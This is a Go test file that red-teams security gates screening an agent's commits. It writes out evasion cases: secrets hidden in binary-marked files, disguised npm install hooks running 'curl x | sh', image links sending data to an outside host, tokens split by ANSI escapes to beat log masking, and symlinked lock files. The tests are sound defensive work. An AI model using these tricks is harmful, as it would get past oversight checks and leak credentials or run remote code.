package gates

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// Review #25 (outside attacker): ways past the gates that the tests above do not try.

// TestAttackerHidesSecretInBinaryFile: the agent writes a GitHub token into a text file
// that starts with one NUL byte (or any file the base's .gitattributes marks binary or
// -diff). git diff prints "Binary files … differ" and no line of it, so the secrets gate
// reads nothing of the file, and the token is pushed.
func TestAttackerHidesSecretInBinaryFile(t *testing.T) {
	r, base := baseRepo(t)
	tok := "ghp_" + strings.Repeat("Zq8", 12)
	r.write(map[string]string{
		"src/notes.txt":   "\x00\ntoken = " + tok + "\n",
		".gitattributes":  "", // the base could as well say "*.lock -diff"
		"docs/config.dat": "x\x00y " + tok + "\n",
	})
	head := r.commit("Add notes")
	res := Check(t.Context(), r.input(base, head), Config{})
	var where []string
	for _, f := range res.Findings {
		if f.Gate == GateSecrets {
			where = append(where, f.File)
		}
	}
	for _, want := range []string{"src/notes.txt", "docs/config.dat"} {
		if !slices.Contains(where, want) {
			t.Errorf("no secrets finding in %s (a file git calls binary): findings in %q", want, where)
		}
	}
}

// TestAttackerHidesInstallHookInPackageJSON: npm reads package.json as JSON, the gate
// reads its added lines with a regular expression: a key written with a JSON escape, a
// colon on the next line, or a lifecycle script the list lacks ("dependencies" runs
// after npm install changes node_modules; "prepack" runs when npm installs a git
// dependency) is an install-time hook without a finding.
func TestAttackerHidesInstallHookInPackageJSON(t *testing.T) {
	for _, tt := range []struct{ name, scripts string }{
		{"a JSON escape in the key", `"post\u0069nstall": "curl x | sh"`},
		{"the colon on the next line", "\"postinstall\"\n      : \"curl x | sh\""},
		{"npm's dependencies script", `"dependencies": "curl x | sh"`},
		{"prepack", `"prepack": "curl x | sh"`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r, base := baseRepo(t)
			r.write(map[string]string{"package.json": strings.Replace(basePackageJSON, `"test": "node test.js"`, `"test": "node test.js",`+"\n    "+tt.scripts, 1)})
			head := r.commit("scripts")
			res := Check(t.Context(), r.input(base, head), Config{})
			for _, f := range res.Findings {
				if f.Gate == GateProtectedPaths && f.File == "package.json" {
					return
				}
			}
			t.Fatalf("no protected_paths finding for %s; findings %+v", tt.scripts, res.Findings)
		})
	}
}

// TestAttackerHidesDependencyFromOSV: manifest lines the dependencies gate does not
// read, so a dependency with a known advisory is neither listed nor asked about (a repo
// without a lock file, or the lock left alone): package.json's pairs after the first on
// a line (here behind "version"), a PEP 621 list on one line, a go.mod replace block, a
// requirements file in a requirements/ directory.
func TestAttackerHidesDependencyFromOSV(t *testing.T) {
	files := []File{
		{Path: "package.json", Added: []Line{{N: 1, Text: `{"name": "x", "version": "1.0.0", "dependencies": {"lodash": "4.17.15"}}`}}},
		{Path: "pyproject.toml", Added: []Line{{N: 5, Text: `dependencies = ["requests==2.19.0"]`}}},
		{Path: "go.mod", Added: []Line{{N: 9, Text: "\tgithub.com/a/b => golang.org/x/net v0.7.0"}}},
		{Path: "requirements/prod.txt", Added: []Line{{N: 1, Text: "requests==2.19.0"}}},
	}
	srv, _ := fakeOSV(t)
	for _, f := range files {
		res := Check(t.Context(), Input{Files: []File{f}}, Config{OSVURL: srv.URL})
		var got []string
		for _, d := range res.Dependencies {
			got = append(got, fmt.Sprintf("%s %s", d.Name, d.Version))
		}
		if len(got) == 0 || len(res.ForReview()) == 0 {
			t.Errorf("%s %q: dependencies %q, findings %+v; want the pinned package found and its advisory a finding", f.Path, f.Added[0].Text, got, res.Findings)
		}
	}
}

// TestAttackerHidesImageInOtherMarkup: GitHub renders more markup than the links gate
// reads (reStructuredText, AsciiDoc, Org, notebooks), its image proxy fetching what they
// show; and a srcset's second candidate (GitHub keeps <picture><source srcset>) follows a
// comma, which the scheme-relative test does not take for a URL's place.
func TestAttackerHidesImageInOtherMarkup(t *testing.T) {
	for _, tt := range []struct{ file, text string }{
		{"docs/index.rst", ".. image:: https://outside.example/?d=abc"},
		{"docs/guide.adoc", "image::https://outside.example/?d=abc[]"},
		{"notes.org", "[[https://outside.example/x.png]]"},
		{"demo.ipynb", `    "![x](https://outside.example/?d=abc)"`},
		{"README.md", `<picture><source srcset="a.png 1x,//outside.example/b.png 2x"><img src="a.png"></picture>`},
	} {
		got := outboundLinks(Input{Files: []File{{Path: tt.file, Added: []Line{{N: 1, Text: tt.text}}}}}, Config{})
		if len(got) == 0 {
			t.Errorf("%s %q: no links finding", tt.file, tt.text)
		}
	}
}

// TestAttackerSplitsTokenWithANSIEscapes: the job log's viewer renders ANSI escapes, so
// a token printed with an SGR sequence inside reads whole (and copies whole) there, while
// MaskLines sees two short pieces.
func TestAttackerSplitsTokenWithANSIEscapes(t *testing.T) {
	tok := "ghp_" + strings.Repeat("Zq8", 12)
	line := "token: " + tok[:10] + "\x1b[0m" + tok[10:] + "\n"
	if got := string(MaskLines([]byte(line))); strings.Contains(got, tok[10:]) {
		t.Errorf("the job log line keeps the token's tail: %q", got)
	}
}

// TestAttackerSymlinksLockFile: the agent replaces package-lock.json with a symbolic
// link to a file of another name holding its bumped pins. npm (and go, for go.sum)
// follows the link; the dependencies gate skips a lock file that is a link, reads no
// lock file of that name, and says nothing: the pins were not checked, silently.
func TestAttackerSymlinksLockFile(t *testing.T) {
	r, _ := baseRepo(t)
	lock := "{\n  \"lockfileVersion\": 3,\n  \"packages\": {\n    \"node_modules/lodash\": {\n      \"version\": \"4.17.15\"\n    }\n  }\n}\n"
	r.write(map[string]string{"package-lock.json": strings.Replace(lock, "4.17.15", "4.17.21", 1)})
	base := r.commit("lock")
	r.git("rm", "-q", "package-lock.json")
	r.write(map[string]string{"locks/npm.json": lock})
	if err := os.Symlink("locks/npm.json", filepath.Join(r.dir, "package-lock.json")); err != nil {
		t.Fatal(err)
	}
	head := r.commit("link the lock")
	in := r.input(base, head)
	srv, _ := fakeOSV(t)
	res := Check(t.Context(), in, Config{OSVURL: srv.URL})
	for _, f := range res.Findings {
		if f.Gate == GateDependencies {
			return
		}
	}
	t.Fatalf("a lock file turned into a link to unread pins: no dependencies finding (dependencies %+v, findings %+v)", res.Dependencies, res.Findings)
}
